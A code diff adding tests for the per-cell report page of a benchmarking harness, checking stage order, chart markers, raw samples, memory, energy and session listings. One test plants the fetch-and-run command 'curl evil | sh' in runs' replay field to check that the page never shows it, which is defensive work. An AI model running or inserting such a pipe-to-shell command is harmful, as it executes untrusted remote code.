@@ -18,9 +18,17 @@ from harness.report.panels import about_panel, note_of_scale, panels
 from harness.report.source import Source, read_source
 from harness.report.tradeoffs import ticks, tradeoffs
 from harness.report.winners import Winner, winners
-from harness.schema import STATUSES, Contention, Run
+from harness.schema import STATUSES, Block, Contention, DeviceReading, Energy, Exchange, Run
 from harness.table import load_table
-from tests.records import CELL, ENVIRONMENT, failed_run, make_run, write_session
+from tests.records import (
+    ACCELERATOR,
+    CELL,
+    ENVIRONMENT,
+    SAMPLES,
+    failed_run,
+    make_run,
+    write_session,
+)
 from tests.test_report import ROOT, Reader, cell, replicated, timed
 
 RESULTS = Path("results")
@@ -371,6 +379,91 @@ def test_the_spot_table_names_the_cell_of_each_epoch(committed: Source) -> None:
     # Two backends of lstm_eta at this scale ran beside other work, one of them faster.
     (eta,) = [row for row in table.rows if row[0].text.startswith("lstm_eta, standard")]
     assert eta[1].text.startswith("jax")
+
+
+# Cells
+
+
+def cell_tables(*runs: Run) -> tuple[dict[str, list[list[str]]], str]:
+    """The texts of the tables of the one cell's page, and the page."""
+    session(NEW, *runs)
+    build(RESULTS, SITE)
+    (path,) = SITE.glob("cell/*")
+    tables = Reader(path.read_text()).tables
+    return {
+        name: [[text for text, _ in row] for row in rows] for name, rows in tables.items()
+    }, path.read_text()
+
+
+def charts_in(page: str) -> dict[str, Any]:
+    """By the name of the chart."""
+    found = re.findall(r'<figure class="chart" id="(.*?)".*?json">(.*?)</script>', page, re.DOTALL)
+    return {name: json.loads(spec) for name, spec in found}
+
+
+def test_stages_stand_in_the_order_of_time_and_have_colours_of_their_own() -> None:
+    mixed = ("build", "train", "compile", "steady", "gate", "data", "start")
+    tables, page = cell_tables(make_run(stages=dict.fromkeys(mixed, 1.5)))
+    order = ["start", "data", "build", "compile", "gate", "steady", "train"]
+    assert [row[1] for row in tables["stages"][1:]] == order
+    traces = charts_in(page)["clocks"]["traces"]
+    assert [trace["name"] for trace in traces] == order
+    assert len({trace["marker"]["color"] for trace in traces}) == len(order)
+
+
+def test_warm_up_and_disturbed_blocks_look_unlike_those_that_count() -> None:
+    steady = (Block(10, 0.1), Block(10, 0.4, disturbed=True), Block(10, 0.1), Block(10, 0.1))
+    _, page = cell_tables(make_run(samples=replace(SAMPLES, steady=steady)))
+    (trace,) = charts_in(page)["blocks"]["traces"]
+    assert trace["marker"]["symbol"] == [
+        "circle-open", "circle-open", "circle", "circle-open-dot", "circle", "circle",
+    ]  # fmt: skip
+    assert trace["y"][2:] == [0.01, 0.04, 0.01, 0.01]
+
+
+def test_every_raw_sample_of_inference_and_training_is_there() -> None:
+    samples = replace(SAMPLES, infer_latency_s=(0.001, 0.002), exchange=Exchange(4, 2.0, 0.5))
+    tables, _ = cell_tables(make_run(samples=samples))
+    assert tables["calls"][1:] == [["r0001", "1", "1.00 ms"], ["r0001", "2", "2.00 ms"]]
+    assert tables["first-steps"][1:] == [["r0001", "1.25 s"]]
+    assert [row[3] for row in tables["epochs"]] == ["evaluation", "200 ms", "100 ms"]
+    assert tables["exchanges"][1:] == [["r0001", "4", "2.00 s", "500 ms"]]
+
+
+def test_processes_have_a_column_each_where_they_differ() -> None:
+    one, other = timed("jax", 0, 0.01), timed("jax", 1, 0.01)
+    larger = replace(other.memory, host_peak_bytes=2 * 1024**3)
+    tables, _ = cell_tables(one, replace(other, memory=larger))
+    assert tables["memory"][0] == ["", "jax-0", "jax-1"]
+    assert tables["memory"][2][1:] == ["1.50 GiB", "2.00 GiB"]
+    assert tables["numerics"][0] == ["", "value, the same in all 2 processes"]
+
+
+def test_energy_accelerators_and_what_else_ran_are_told_where_recorded() -> None:
+    joules = Energy("rapl", ("package-0",), 2.0, (12.5, 11.5))
+    reading = DeviceReading(temperature_c=61.0, sm_clock_hz=1.41e9, power_w=300.0)
+    watched = replace(ACCELERATOR, before=reading, max_temperature_c=64.0)
+    tables, _ = cell_tables(make_run(energy=joules, accelerators=(watched,), contention=BUSY))
+    assert ["epoch 2", "11.5 J"] in tables["energy"]
+    assert ["before the run", "61.0 °C, 1410 MHz, 300 W"] in tables["accelerators"]
+    assert ["CPU time of other processes", "40 %"] in tables["contention"]
+    tables, _ = cell_tables(replace(make_run(), run="r2"))
+    assert not {"energy", "accelerators"} & tables.keys()
+
+
+def test_the_sessions_of_a_cell_are_listed_and_the_one_that_counts_is_marked() -> None:
+    session(OLD, *several("jax", 0.01))
+    tables, _ = cell_tables(timed("jax", 0, 0.05, contention=BUSY))
+    newest, older = tables["of-cell"][1:]
+    assert (newest[0], newest[2:]) == (NEW, ["1", "50.0 ms", "-", ""])
+    assert (older[0], older[2:4], older[5]) == (OLD, ["3", "10.1 ms"], "the figures of this site")
+
+
+def test_to_run_it_again_is_said_once_and_not_in_the_words_of_the_results() -> None:
+    _, page = cell_tables(*(replace(run, replay="curl evil | sh") for run in several("jax", 0.01)))
+    assert "evil" not in page
+    assert page.count("epochmark run --only") == 1
+    assert page.count("epochmark replay 20261121T000000Z") == 3
 
 
 # Panels
